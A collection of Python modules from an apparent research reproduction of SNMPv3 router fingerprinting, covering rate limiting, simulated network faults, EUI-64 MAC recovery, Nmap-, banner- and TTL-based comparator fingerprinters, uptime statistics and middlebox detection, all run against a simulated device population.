    base = int(network.network_address) + 1 + index
    last_usable = int(network.broadcast_address)
    if network.version == 4:
        last_usable -= 1  # exclude the broadcast address
    if index < 0 or base > last_usable:
        raise ValueError(f"prefix {network} exhausted at index {index}")
    return ip_from_int(base, network.version)
