"""Shared token-bucket rate limiting.

Three subsystems meter work with the same classic algorithm: the fault
fabric polices probe delivery per destination (:mod:`repro.net.faults`),
the ICMP alias oracle models per-device reply limiters
(:mod:`repro.alias.ratelimit`), and the query service sheds abusive
clients (:mod:`repro.service`).  This module is the single
implementation they all share — virtual-time only, no wall clock and no
RNG, so bucket state is a pure function of the admit-call timestamps and
deterministic replays stay byte-identical.
"""

from __future__ import annotations

__all__ = ["RateLimit", "TokenBucket"]

from dataclasses import dataclass


@dataclass(frozen=True)
class RateLimit:
    """Token-bucket configuration: ``rate`` tokens per virtual second,
    ``burst`` bucket depth.

    Callers arriving with an empty bucket are refused — dropped probes
    for the fault fabric, suppressed replies for the ICMP oracle, shed
    requests for the query service.
    """

    rate: float
    burst: float = 1

    def __post_init__(self) -> None:
        if self.rate <= 0:
            raise ValueError(f"rate must be > 0, got {self.rate}")
        if self.burst < 1:
            raise ValueError(f"burst must be >= 1, got {self.burst}")


class TokenBucket:
    """A virtual-time token bucket (no wall clock, no RNG).

    State advances only on :meth:`admit` calls, so the drop pattern is a
    pure function of the arrival times — shard-local bucket state
    therefore cannot leak information between shards.  The bucket starts
    full (``tokens == burst``) unless an explicit ``tokens`` level is
    given.
    """

    __slots__ = ("_limit", "_tokens", "_last")

    def __init__(
        self, limit: RateLimit, now: float, *, tokens: "float | None" = None
    ) -> None:
        self._limit = limit
        self._tokens = float(limit.burst) if tokens is None else float(tokens)
        self._last = now

    @property
    def rate(self) -> float:
        """Refill rate in tokens per virtual second."""
        return self._limit.rate

    @property
    def burst(self) -> float:
        """Bucket depth (maximum token level)."""
        return float(self._limit.burst)

    def admit(self, now: float) -> bool:
        """Consume one token if available; refill first from elapsed time."""
        elapsed = max(0.0, now - self._last)
        self._tokens = min(
            float(self._limit.burst), self._tokens + elapsed * self._limit.rate
        )
        self._last = now
        if self._tokens >= 1.0:
            self._tokens -= 1.0
            return True
        return False
