"""Modified EUI-64 IPv6 interface identifiers (RFC 4291 Appendix A).

SLAAC-configured interfaces historically derive their IPv6 interface
identifier from the hardware MAC: flip the universal/local bit, split the
MAC and insert ``ff:fe`` in the middle.  The transformation is trivially
reversible — an EUI-64 address *advertises* the device's MAC.

The paper's threat discussion leans on related work (Rye & Beverly's
IPv6 periphery studies) built on exactly this property.  Combined with
SNMPv3, it enables a cross-protocol correlation the paper stops short
of: an engine ID carrying a MAC can be matched against EUI-64 IPv6
addresses to find dual-stack aliases *without any IPv6 SNMP response at
all* — see :mod:`repro.alias.mac_correlation`.
"""

from __future__ import annotations

import ipaddress

from repro.net.mac import MacAddress

_ULBIT = 0x02
_FFFE = 0xFFFE


def eui64_interface_id(mac: MacAddress) -> int:
    """The 64-bit modified EUI-64 interface identifier for a MAC."""
    raw = mac.packed
    flipped = bytes([raw[0] ^ _ULBIT]) + raw[1:]
    return int.from_bytes(
        flipped[:3] + _FFFE.to_bytes(2, "big") + flipped[3:], "big"
    )


def ipv6_from_mac(
    prefix: "ipaddress.IPv6Network | str", mac: MacAddress
) -> ipaddress.IPv6Address:
    """Build the SLAAC address a host with ``mac`` takes in ``prefix``.

    ``prefix`` must be a /64 (or shorter, in which case the first /64 is
    used, matching a single-subnet deployment).
    """
    if isinstance(prefix, str):
        prefix = ipaddress.ip_network(prefix)
    base = int(prefix.network_address) >> 64 << 64
    return ipaddress.IPv6Address(base | eui64_interface_id(mac))


def mac_from_ipv6(address: "ipaddress.IPv6Address | str") -> "MacAddress | None":
    """Recover the MAC from an EUI-64 address; ``None`` if not EUI-64.

    Detection: bytes 11–12 of the address (the middle of the interface
    identifier) must be ``ff:fe``.  Privacy (RFC 4941) and static
    addresses fail the check, as they should.
    """
    if isinstance(address, str):
        address = ipaddress.IPv6Address(address)
    packed = address.packed
    if packed[11] != 0xFF or packed[12] != 0xFE:
        return None
    high = packed[8:11]
    low = packed[13:16]
    return MacAddress(bytes([high[0] ^ _ULBIT]) + high[1:] + low)


def is_eui64(address: "ipaddress.IPv6Address | str") -> bool:
    """Whether the address carries a recoverable MAC."""
    return mac_from_ipv6(address) is not None
