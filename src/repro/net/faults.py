"""Deterministic fault models for the simulated fabric.

The real Internet does much worse than independent packet loss: probes and
replies get duplicated, reordered, truncated and bit-flipped, and busy
routers rate-limit their control planes (the behaviour that corrupts
ICMP-based alias inference — Vermeulen et al.).  This module describes
those failure modes as data so the fabric can inject them reproducibly:
every stochastic choice is drawn from the caller's seeded RNG and every
rate limiter runs on virtual time, which keeps fault-injected scans
byte-identical for a fixed seed at any worker count.

:class:`FaultProfile` is the wire-level fault configuration attached to a
:class:`~repro.net.transport.NetworkFabric`; :data:`FAULT_PROFILES` names
the stock profiles the CLI exposes via ``--fault-profile``.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.net.ratelimit import RateLimit, TokenBucket

__all__ = [
    "FAULT_PROFILES",
    "FaultProfile",
    "RateLimit",
    "TokenBucket",
    "corrupt_payload",
    "resolve_fault_profile",
    "truncate_payload",
]


@dataclass(frozen=True)
class FaultProfile:
    """Wire-level fault mix injected by the fabric.

    All probabilities are per-event (per delivered probe for corruption,
    per reply for duplication/truncation, per multi-reply batch for
    reordering) and all default to zero; the default profile is therefore
    a no-op that draws **no** random numbers, preserving the fabric's
    legacy RNG stream exactly.
    """

    name: str = "custom"
    duplicate_probability: float = 0.0
    reorder_probability: float = 0.0
    truncate_probability: float = 0.0
    corrupt_probability: float = 0.0
    rate_limit: "RateLimit | None" = None

    def __post_init__(self) -> None:
        for field_name in (
            "duplicate_probability",
            "reorder_probability",
            "truncate_probability",
            "corrupt_probability",
        ):
            value = getattr(self, field_name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{field_name} must be in [0, 1], got {value}")

    @property
    def is_null(self) -> bool:
        """True when the profile injects nothing (fast-path bypass)."""
        return (
            self.duplicate_probability == 0.0
            and self.reorder_probability == 0.0
            and self.truncate_probability == 0.0
            and self.corrupt_probability == 0.0
            and self.rate_limit is None
        )

    @property
    def mutates_replies(self) -> bool:
        """True when reply payload/ordering faults can fire."""
        return (
            self.duplicate_probability > 0.0
            or self.reorder_probability > 0.0
            or self.truncate_probability > 0.0
            or self.corrupt_probability > 0.0
        )


def truncate_payload(rng: random.Random, payload: bytes) -> bytes:
    """Cut a payload mid-TLV, keeping at least one byte."""
    if len(payload) <= 1:
        return payload
    return payload[: rng.randrange(1, len(payload))]


def corrupt_payload(rng: random.Random, payload: bytes) -> bytes:
    """Flip one random byte (never a no-op flip)."""
    if not payload:
        return payload
    position = rng.randrange(len(payload))
    xor = rng.randrange(1, 256)
    mutated = bytearray(payload)
    mutated[position] ^= xor
    return bytes(mutated)


#: Stock fault profiles, selectable by name (CLI ``--fault-profile``).
FAULT_PROFILES: dict[str, FaultProfile] = {
    "none": FaultProfile(name="none"),
    # Delivery-plane noise only: content is never altered, so a retrying
    # scanner must converge to the fault-free result.  This is the profile
    # the differential conformance harness runs.
    "conformance": FaultProfile(
        name="conformance",
        duplicate_probability=0.05,
        reorder_probability=0.3,
        rate_limit=RateLimit(rate=0.5, burst=1),
    ),
    # Heavy control-plane policing, as seen on busy router paths.
    "rate-limited": FaultProfile(
        name="rate-limited",
        rate_limit=RateLimit(rate=0.2, burst=2),
    ),
    # Everything at once, including content corruption: replies may parse
    # to garbage or not parse at all.  Used to harden the parse paths.
    "chaos": FaultProfile(
        name="chaos",
        duplicate_probability=0.1,
        reorder_probability=0.3,
        truncate_probability=0.05,
        corrupt_probability=0.05,
        rate_limit=RateLimit(rate=1.0, burst=2),
    ),
}


def resolve_fault_profile(
    spec: "FaultProfile | str | None",
) -> "FaultProfile | None":
    """Accept a profile object, a stock-profile name, or ``None``.

    ``None`` and the ``"none"`` profile both resolve to ``None`` so the
    fabric's fault branch disappears entirely when nothing is injected.
    """
    if spec is None:
        return None
    if isinstance(spec, FaultProfile):
        return None if spec.is_null else spec
    try:
        profile = FAULT_PROFILES[spec]
    except KeyError:
        known = ", ".join(sorted(FAULT_PROFILES))
        raise ValueError(f"unknown fault profile {spec!r} (known: {known})") from None
    return None if profile.is_null else profile
