"""Initial-TTL fingerprinting (§7.1: Vanaubel et al. comparator).

Different router OSes set different initial TTLs on the packets they
originate; the tuple of iTTLs inferred from, e.g., an ICMP echo reply and
an ICMP time-exceeded message forms a coarse signature.  The universe of
tuples is tiny, so distinct vendors collide — notoriously, Huawei shares
Cisco's ``(255, 255)`` — which is the limitation the paper contrasts its
exact registry-based method against.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.topology.config import TTL_SIGNATURES
from repro.topology.model import Topology

#: Initial-TTL values a stack may use; observed TTLs are rounded up to
#: the next of these.
_COMMON_ITTLS = (32, 64, 128, 255)

_DEFAULT_SIGNATURE = (64, 64)


def infer_ittl(observed_ttl: int) -> int:
    """Round an observed hop-decremented TTL up to the initial value."""
    for candidate in _COMMON_ITTLS:
        if observed_ttl <= candidate:
            return candidate
    return 255


@dataclass(frozen=True)
class TtlVerdict:
    """The signature tuple and every vendor it is consistent with."""

    signature: tuple[int, int]
    candidate_vendors: tuple[str, ...]

    @property
    def ambiguous(self) -> bool:
        return len(self.candidate_vendors) != 1


class TtlFingerprinter:
    """Probe devices for their iTTL tuple and map to candidate vendors."""

    def __init__(self, topology: Topology, path_length: int = 12) -> None:
        self.topology = topology
        self.path_length = path_length
        self._by_signature: dict[tuple[int, int], tuple[str, ...]] = {}
        for vendor, signature in TTL_SIGNATURES.items():
            existing = self._by_signature.get(signature, ())
            self._by_signature[signature] = existing + (vendor,)

    def signature_of(self, address: IPAddress) -> "tuple[int, int] | None":
        """Elicit the (echo-reply, time-exceeded) iTTL tuple of a target."""
        device = self.topology.device_of_address(address)
        if device is None:
            return None
        echo, exceeded = TTL_SIGNATURES.get(device.vendor, _DEFAULT_SIGNATURE)
        # The probe sees initial TTL minus path length; infer_ittl undoes it.
        return (
            infer_ittl(echo - self.path_length),
            infer_ittl(exceeded - self.path_length),
        )

    def fingerprint(self, address: IPAddress) -> "TtlVerdict | None":
        """Full inference for one target."""
        signature = self.signature_of(address)
        if signature is None:
            return None
        return TtlVerdict(
            signature=signature,
            candidate_vendors=self._by_signature.get(signature, ()),
        )
