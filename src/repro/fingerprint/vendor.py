"""SNMPv3 vendor fingerprinting (§3.1, §6).

Confidence ladder, as the paper describes it:

1. **MAC OUI** — when the engine ID embeds a MAC address, the upper three
   bytes name the company that registered the block (highest confidence);
2. **Enterprise number** — present in every RFC 3411-conforming engine
   ID; used to corroborate the OUI or as the fallback signal;
3. Net-SNMP's enterprise-specific format is labelled ``Net-SNMP`` —
   the software implementation, which operators confirmed corresponds to
   network appliances (§6.2.2);
4. anything else is ``unknown``.

No statistical inference is involved — this is a registry lookup, which
is what makes a single probe per target sufficient.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.oui.registry import OuiRegistry, default_registry
from repro.snmp.engine_id import EngineId, EngineIdFormat

UNKNOWN_VENDOR = "unknown"


@dataclass(frozen=True)
class VendorInference:
    """A vendor verdict with its evidence trail."""

    vendor: str
    source: str              # "mac-oui", "enterprise", "net-snmp", "none"
    oui_vendor: "str | None" = None
    enterprise_vendor: "str | None" = None

    @property
    def confident(self) -> bool:
        """MAC-OUI verdicts, and OUI+enterprise agreements, rank highest."""
        return self.source == "mac-oui"

    @property
    def corroborated(self) -> bool:
        """Both signals present and agreeing."""
        return (
            self.oui_vendor is not None
            and self.enterprise_vendor is not None
            and self.oui_vendor == self.enterprise_vendor
        )


def infer_vendor(
    engine_id: EngineId, registry: "OuiRegistry | None" = None
) -> VendorInference:
    """Infer the device vendor from one engine ID."""
    registry = registry or default_registry()
    enterprise_vendor = engine_id.enterprise_vendor
    if engine_id.format is EngineIdFormat.NET_SNMP:
        return VendorInference(
            vendor="Net-SNMP", source="net-snmp", enterprise_vendor=enterprise_vendor
        )
    oui_vendor = None
    if engine_id.format is EngineIdFormat.MAC:
        oui_vendor = registry.vendor_of(engine_id.mac)
        if oui_vendor is not None:
            return VendorInference(
                vendor=oui_vendor,
                source="mac-oui",
                oui_vendor=oui_vendor,
                enterprise_vendor=enterprise_vendor,
            )
    if enterprise_vendor is not None:
        return VendorInference(
            vendor=enterprise_vendor,
            source="enterprise",
            oui_vendor=oui_vendor,
            enterprise_vendor=enterprise_vendor,
        )
    return VendorInference(vendor=UNKNOWN_VENDOR, source="none", oui_vendor=oui_vendor)


def vendor_of_alias_set(
    engine_ids: "list[EngineId]", registry: "OuiRegistry | None" = None
) -> VendorInference:
    """Vendor verdict for an alias set (one device, possibly many records).

    All members of a correctly resolved set share one engine ID; this
    helper simply prefers the most confident verdict among members, which
    also behaves sensibly for sets built by other techniques.
    """
    if not engine_ids:
        return VendorInference(vendor=UNKNOWN_VENDOR, source="none")
    best: "VendorInference | None" = None
    rank = {"mac-oui": 3, "net-snmp": 2, "enterprise": 1, "none": 0}
    for engine_id in engine_ids:
        verdict = infer_vendor(engine_id, registry)
        if best is None or rank[verdict.source] > rank[best.source]:
            best = verdict
    return best
