"""Nmap-style TCP/IP stack fingerprinting (§6.2.3 comparator).

Nmap's OS detection needs at least one open and one closed TCP port on
the target to run its full probe battery; without an open port it reports
nothing, and with incomplete test results it falls back to a best-effort
*guess*.  The paper found exactly this on real routers: 22.2k of 26.4k
targets yielded no result, 1.3k produced (wrong) guesses, and only 2.9k
matched its database.

The engine here probes the simulated device population the same way:

* **no open TCP port** (the default posture of routers) → ``NO_RESULT``;
* open port and the device's OS family is in the signature database →
  ``MATCH`` with the correct vendor (plus OS detail, which the SNMPv3
  technique cannot provide);
* open port but an unknown stack → ``GUESS``, drawn from the database's
  common entries and frequently wrong.

The probe cost per target is tracked: Nmap sends dozens of packets where
the SNMPv3 technique sends one.
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.topology.model import Topology

#: os_family -> vendor, as a fingerprint database would resolve them.
SIGNATURE_DATABASE: dict[str, str] = {
    "IOS": "Cisco",
    "JunOS": "Juniper",
    "Linux": "Net-SNMP",
    "RouterOS": "MikroTik",
    "NetIron": "Brocade",
}

#: Probes Nmap sends per target when ports respond (16 tests, several
#: packets each) vs the closed-port short-circuit.
PROBES_FULL = 30
PROBES_PORTSCAN_ONLY = 10


class NmapOutcome(enum.Enum):
    NO_RESULT = "no-result"
    MATCH = "match"
    GUESS = "guess"


@dataclass(frozen=True)
class NmapResult:
    """Per-target outcome."""

    address: IPAddress
    outcome: NmapOutcome
    vendor: "str | None"
    os_detail: "str | None"
    probes_sent: int

    def agrees_with(self, true_vendor: str) -> bool:
        return self.vendor == true_vendor


class NmapEngine:
    """Fingerprint targets on the simulated population."""

    def __init__(self, topology: Topology, seed: int = 0x4A0) -> None:
        self.topology = topology
        self._rng = random.Random(seed ^ topology.seed)

    def fingerprint(self, address: IPAddress) -> NmapResult:
        """Run OS detection against one target address."""
        device = self.topology.device_of_address(address)
        if device is None or not device.open_tcp_ports:
            # Top-10-port scan finds nothing listening: no OS detection.
            return NmapResult(
                address=address,
                outcome=NmapOutcome.NO_RESULT,
                vendor=None,
                os_detail=None,
                probes_sent=PROBES_PORTSCAN_ONLY,
            )
        known_vendor = SIGNATURE_DATABASE.get(device.os_family)
        if known_vendor is not None and self._rng.random() < 0.9:
            return NmapResult(
                address=address,
                outcome=NmapOutcome.MATCH,
                vendor=known_vendor,
                os_detail=f"{device.os_family} (exact)",
                probes_sent=PROBES_FULL,
            )
        # Unknown stack (or flaky test run): best-guess from the database.
        guess = self._rng.choice(sorted(set(SIGNATURE_DATABASE.values())))
        return NmapResult(
            address=address,
            outcome=NmapOutcome.GUESS,
            vendor=guess,
            os_detail=None,
            probes_sent=PROBES_FULL,
        )

    def fingerprint_many(self, addresses: "list[IPAddress]") -> list[NmapResult]:
        """Batch interface used by the §6.2.3 experiment."""
        return [self.fingerprint(a) for a in addresses]
