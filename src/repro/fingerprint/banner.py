"""Banner grabbing (§7.1 comparator: Censys/Durumeric-style scanning).

The second prior fingerprinting technique the paper discusses: connect to
a public service and read the identification string it volunteers — e.g.
Cisco's SSH server announces itself in its version banner.  Like Nmap,
the method needs a *listening TCP service*, which routers rarely expose;
unlike Nmap it costs only one connection when a port is open.

The grabber here speaks a simulated service layer: devices with open
ports return per-vendor banner strings (some informative, some generic),
and the classifier maps banners back to vendors with a pattern table —
reproducing both the mechanics and the coverage ceiling of the approach.
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.topology.model import Device, Topology

#: Per-vendor banner templates by port.  ``None`` entries model services
#: that reveal nothing useful (hardened configs, generic daemons).
_BANNER_TEMPLATES: dict[tuple[str, int], "str | None"] = {
    ("Cisco", 22): "SSH-2.0-Cisco-1.25",
    ("Cisco", 23): "User Access Verification",
    ("Juniper", 22): "SSH-2.0-OpenSSH_7.5 FIPS",
    ("Huawei", 22): "SSH-2.0-HUAWEI-1.5",
    ("H3C", 22): "SSH-2.0-Comware-7.1",
    ("MikroTik", 22): "SSH-2.0-ROSSSH",
    ("Net-SNMP", 22): "SSH-2.0-OpenSSH_8.2p1",
    ("Net-SNMP", 80): "Server: Apache/2.4",
    ("Net-SNMP", 443): "Server: nginx",
    ("Brocade", 22): "SSH-2.0-RomSShell_5.40",
}

#: Banner substring -> vendor classification table (what a scan-data
#: consumer like Censys applies).
BANNER_SIGNATURES: dict[str, str] = {
    "Cisco": "Cisco",
    "HUAWEI": "Huawei",
    "Comware": "H3C",
    "ROSSSH": "MikroTik",
    "RomSShell": "Brocade",
}


class BannerOutcome(enum.Enum):
    NO_SERVICE = "no-service"       # nothing listening
    UNINFORMATIVE = "uninformative"  # banner reveals no vendor
    IDENTIFIED = "identified"


@dataclass(frozen=True)
class BannerResult:
    """One grab attempt."""

    address: IPAddress
    port: "int | None"
    banner: "str | None"
    outcome: BannerOutcome
    vendor: "str | None"


class BannerGrabber:
    """Grab-and-classify over the simulated population."""

    def __init__(self, topology: Topology, seed: int = 0xBA77E2) -> None:
        self.topology = topology
        self._rng = random.Random(seed ^ topology.seed)

    def _banner_for(self, device: Device, port: int) -> "str | None":
        template = _BANNER_TEMPLATES.get((device.vendor, port))
        if template is not None:
            return template
        # Unlisted combinations return a generic daemon banner.
        if port == 22:
            return "SSH-2.0-OpenSSH_7.9"
        if port in (80, 443):
            return "Server: httpd"
        if port == 7547:
            return "Server: RomPager/4.07"
        return None

    def grab(self, address: IPAddress) -> BannerResult:
        """Connect to the target's first open port and read its banner."""
        device = self.topology.device_of_address(address)
        if device is None or not device.open_tcp_ports:
            return BannerResult(
                address=address, port=None, banner=None,
                outcome=BannerOutcome.NO_SERVICE, vendor=None,
            )
        port = device.open_tcp_ports[0]
        banner = self._banner_for(device, port)
        vendor = classify_banner(banner) if banner else None
        return BannerResult(
            address=address,
            port=port,
            banner=banner,
            outcome=(
                BannerOutcome.IDENTIFIED if vendor else BannerOutcome.UNINFORMATIVE
            ),
            vendor=vendor,
        )

    def survey(self, addresses: "list[IPAddress]") -> dict[BannerOutcome, int]:
        """Grab a population; return the outcome histogram."""
        histogram = {outcome: 0 for outcome in BannerOutcome}
        for address in addresses:
            histogram[self.grab(address).outcome] += 1
        return histogram


def classify_banner(banner: str) -> "str | None":
    """Map a banner string to a vendor via the signature table."""
    for needle, vendor in BANNER_SIGNATURES.items():
        if needle in banner:
            return vendor
    return None
