"""Uptime and reboot statistics (§3.1 "SNMPv3-based Uptime", Figure 13).

The engine time field yields a last-reboot timestamp per device; aggregated
over the router population it answers the paper's patch-hygiene question:
how long have these boxes been running without the reboot a security
update normally requires?
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.topology import timeline

_DAY = timeline.SECONDS_PER_DAY


@dataclass(frozen=True)
class UptimeStatistics:
    """Summary of a last-reboot-time distribution at a reference time."""

    count: int
    frac_rebooted_last_month: float
    frac_rebooted_this_year: float
    frac_uptime_over_one_year: float
    median_uptime_days: float

    def headline(self) -> str:
        """The paper's §6.3 summary sentence, with our numbers."""
        return (
            f"{self.frac_uptime_over_one_year:.0%} of devices last rebooted more "
            f"than a year ago; {self.frac_rebooted_this_year:.0%} rebooted since "
            f"the start of the year; {self.frac_rebooted_last_month:.0%} within "
            f"the last month."
        )


def uptime_statistics(
    last_reboot_times: "list[float]", reference_time: "float | None" = None
) -> UptimeStatistics:
    """Aggregate last-reboot timestamps (one per device/alias set)."""
    if not last_reboot_times:
        return UptimeStatistics(0, 0.0, 0.0, 0.0, 0.0)
    now = timeline.REFERENCE_TIME if reference_time is None else reference_time
    year_start = timeline.year_start(now)
    n = len(last_reboot_times)
    uptimes = sorted(now - t for t in last_reboot_times)
    last_month = sum(1 for t in last_reboot_times if now - t <= 30 * _DAY)
    this_year = sum(1 for t in last_reboot_times if t >= year_start)
    over_year = sum(1 for t in last_reboot_times if now - t > 365 * _DAY)
    median = uptimes[n // 2] / _DAY
    return UptimeStatistics(
        count=n,
        frac_rebooted_last_month=last_month / n,
        frac_rebooted_this_year=this_year / n,
        frac_uptime_over_one_year=over_year / n,
        median_uptime_days=median,
    )
