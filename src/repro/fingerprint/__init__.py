"""Device fingerprinting: the SNMPv3 method and its comparators.

* :mod:`repro.fingerprint.vendor` — the paper's technique (§3.1/§6):
  vendor from the MAC OUI inside the engine ID, falling back to the
  enterprise number;
* :mod:`repro.fingerprint.nmap` — an Nmap-style TCP/IP stack
  fingerprinter with a signature database, reproducing §6.2.3's
  comparison (most routers expose no TCP service, so Nmap returns
  nothing);
* :mod:`repro.fingerprint.ttl` — initial-TTL tuple signatures (§7.1's
  Vanaubel et al. comparator), including the Cisco/Huawei ambiguity;
* :mod:`repro.fingerprint.uptime` — time-since-last-reboot statistics
  (Figure 13).
"""

from repro.fingerprint.vendor import VendorInference, infer_vendor, vendor_of_alias_set
from repro.fingerprint.nmap import NmapEngine, NmapOutcome, NmapResult
from repro.fingerprint.ttl import TtlFingerprinter
from repro.fingerprint.uptime import UptimeStatistics, uptime_statistics

__all__ = [
    "NmapEngine",
    "NmapOutcome",
    "NmapResult",
    "TtlFingerprinter",
    "UptimeStatistics",
    "VendorInference",
    "infer_vendor",
    "uptime_statistics",
    "vendor_of_alias_set",
]
