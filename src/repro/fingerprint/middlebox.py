"""NAT and load-balancer inference — the paper's §9 future work.

Two middlebox signatures fall out of SNMPv3 discovery data:

* **NAT gateways** — devices whose engine ID is IPv4-format but embeds a
  *non-routable* (RFC 1918 / special-purpose) address: the agent derived
  its identifier from a private LAN interface, revealing that the public
  address fronts a private network.  The §4.4 pipeline currently throws
  these responses away ("unroutable IPv4 engine IDs"); the detector mines
  them instead.

* **Load balancers** — virtual IPs where *repeated* probes return
  different engine IDs within seconds.  DHCP churn operates on timescales
  of hours-to-days, so an identifier flip inside a burst cannot be
  re-addressing; it means several SNMP engines share the address.
  Source-hashed pools pin one prober to one backend and therefore evade a
  single-vantage burst — probing from multiple source addresses recovers
  part of that blind spot, exactly like multi-vantage measurement would.

The detector works on a live fabric (re-probing) plus recorded scan
observations (NAT mining), so it composes with the standard campaign.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field

from repro.asn1 import ber
from repro.net.addresses import IPAddress, is_routable_ipv4
from repro.net.packet import Datagram
from repro.net.transport import LinkProfile, NetworkFabric
from repro.scanner.records import ScanObservation
from repro.snmp.constants import SNMP_PORT
from repro.snmp.engine_id import EngineIdFormat
from repro.snmp.messages import build_discovery_probe, parse_discovery_response
from repro.topology.model import DeviceType, Topology

#: Source addresses the burst prober cycles through (multi-vantage
#: emulation to pierce source-hashed pools).
_VANTAGE_POINTS = tuple(
    ipaddress.ip_address(a)
    for a in (
        "203.0.113.77", "203.0.113.78", "198.51.100.14", "192.0.2.201",
        "2001:db8:5ca0::77", "2001:db8:5ca0::78",
    )
)


@dataclass(frozen=True)
class NatVerdict:
    """One inferred NAT gateway."""

    address: IPAddress
    embedded_address: ipaddress.IPv4Address


@dataclass(frozen=True)
class LoadBalancerVerdict:
    """One inferred load-balanced VIP."""

    address: IPAddress
    distinct_engine_ids: int
    probes_answered: int


@dataclass
class MiddleboxReport:
    """Detection output plus ground-truth scoring (when available)."""

    nats: list[NatVerdict] = field(default_factory=list)
    load_balancers: list[LoadBalancerVerdict] = field(default_factory=list)
    nat_precision: float = 0.0
    nat_recall: float = 0.0
    lb_precision: float = 0.0
    lb_recall: float = 0.0


def detect_nat_gateways(observations: "list[ScanObservation]") -> list[NatVerdict]:
    """Mine NAT gateways from recorded discovery responses."""
    verdicts = []
    for obs in observations:
        engine_id = obs.engine_id
        if engine_id is None or engine_id.format is not EngineIdFormat.IPV4:
            continue
        embedded = engine_id.ip
        if embedded is not None and not is_routable_ipv4(embedded):
            verdicts.append(NatVerdict(address=obs.address, embedded_address=embedded))
    return verdicts


class LoadBalancerProber:
    """Burst re-prober: k discovery probes per target from several
    vantage source addresses, flagging engine-ID flips."""

    def __init__(self, fabric: NetworkFabric, probes_per_vantage: int = 4) -> None:
        self._fabric = fabric
        self.probes_per_vantage = probes_per_vantage

    def probe_target(self, target: IPAddress, start: float) -> "LoadBalancerVerdict | None":
        """Burst-probe one address; a verdict is returned only on a flip."""
        engine_ids: set[bytes] = set()
        answered = 0
        now = start
        vantages = [v for v in _VANTAGE_POINTS if v.version == target.version]
        for vantage in vantages:
            for i in range(self.probes_per_vantage):
                probe = build_discovery_probe(msg_id=int(now * 10) % 2**30 + i + 1)
                datagram = Datagram(
                    src=vantage, dst=target, sport=40000 + i, dport=SNMP_PORT,
                    payload=probe.encode(), sent_at=now,
                )
                for reply, __arrival in self._fabric.inject(datagram, now=now):
                    try:
                        parsed = parse_discovery_response(reply.payload)
                    except ber.BerDecodeError:
                        continue
                    answered += 1
                    engine_ids.add(parsed.engine_id)
                now += 0.25
        if len(engine_ids) > 1:
            return LoadBalancerVerdict(
                address=target,
                distinct_engine_ids=len(engine_ids),
                probes_answered=answered,
            )
        return None


class MiddleboxDetector:
    """End-to-end detector over a topology: builds its own probing fabric
    (the campaign's bindings), bursts the candidates, mines NAT evidence,
    and scores both against ground truth."""

    def __init__(self, topology: Topology, seed: int = 0x9B) -> None:
        self.topology = topology
        self._fabric = NetworkFabric(
            seed=seed ^ topology.seed,
            default_profile=LinkProfile(loss_probability=0.01),
        )
        for device in topology.devices.values():
            if not device.snmp_open:
                continue
            handler = (
                device.agent_pool.handle_datagram
                if device.agent_pool is not None
                else device.agent.handle_datagram
            )
            for interface in device.interfaces:
                if interface.snmp_reachable:
                    self._fabric.bind(interface.address, "udp", SNMP_PORT, handler)
        self._prober = LoadBalancerProber(self._fabric)

    def run(
        self,
        observations: "list[ScanObservation]",
        lb_candidates: "list[IPAddress] | None" = None,
        start_time: float = 0.0,
    ) -> MiddleboxReport:
        """Detect both middlebox classes and score against ground truth.

        ``lb_candidates`` defaults to every observed responsive address —
        the realistic sweep; pass a narrower list to burst selectively.
        """
        report = MiddleboxReport()
        report.nats = detect_nat_gateways(observations)

        if lb_candidates is None:
            lb_candidates = [obs.address for obs in observations]
        now = start_time
        for target in lb_candidates:
            verdict = self._prober.probe_target(target, now)
            now += 10.0
            if verdict is not None:
                report.load_balancers.append(verdict)

        self._score(report)
        return report

    # -- scoring ------------------------------------------------------------

    def _score(self, report: MiddleboxReport) -> None:
        true_nats = {
            i.address
            for d in self.topology.devices.values()
            if d.nat_gateway and d.snmp_open
            for i in d.interfaces
        }
        true_lbs = {
            i.address
            for d in self.topology.devices.values()
            if d.device_type is DeviceType.LOAD_BALANCER and d.snmp_open
            for i in d.interfaces
        }
        found_nats = {v.address for v in report.nats}
        found_lbs = {v.address for v in report.load_balancers}
        report.nat_precision = _precision(found_nats, true_nats)
        report.nat_recall = _recall(found_nats, true_nats)
        report.lb_precision = _precision(found_lbs, true_lbs)
        report.lb_recall = _recall(found_lbs, true_lbs)


def _precision(found: set, truth: set) -> float:
    if not found:
        return 1.0
    return len(found & truth) / len(found)


def _recall(found: set, truth: set) -> float:
    if not truth:
        return 1.0
    return len(found & truth) / len(truth)
