"""Embedded IEEE OUI registry.

A subset of the IEEE MA-L assignments covering every vendor the paper's
evaluation names (Cisco, Huawei, Juniper, H3C, Broadcom, Thomson, Netgear,
Ambit, Ruijie, Brocade, Adtran, OneAccess, ...) plus common server-NIC and
CPE vendors, so that both the router and the "everything else" populations
of the simulated Internet carry realistic hardware addresses.

The live paper resolves OUIs against the full ``oui.txt`` from the IEEE;
we substitute this curated table (documented in DESIGN.md §2).  MACs whose
OUI is absent from the table model the "Unregistered MAC engine IDs"
filter input of §4.4.
"""

from __future__ import annotations

from repro.net.mac import MacAddress

# vendor -> OUI prefixes (hex, no separators).  Multiple blocks per vendor
# mirror reality and exercise OUI->vendor canonicalization.
VENDOR_OUIS: dict[str, tuple[str, ...]] = {
    "Cisco": ("00000c", "000142", "001b54", "002699", "58971e", "70db98", "bc671c"),
    "Huawei": ("00e0fc", "001882", "00259e", "286ed4", "48dbd4", "f44c7f"),
    "Juniper": ("000585", "28c0da", "2c6bf5", "3c8ab0", "78fe3d", "f8c001"),
    "H3C": ("000fe2", "3ce5a6", "5866ba", "70f96d"),
    "Broadcom": ("001018", "001be9", "d43d7e"),
    "Thomson": ("001095", "001f9f", "002644", "8c04ff"),
    "Netgear": ("00095b", "000fb5", "00146c", "204e7f", "9c3dcf"),
    "Ambit": ("00d059", "001d6b"),
    "Ruijie": ("00d0f8", "58696c", "300d9e"),
    "Brocade": ("00051e", "748ef8", "000533"),
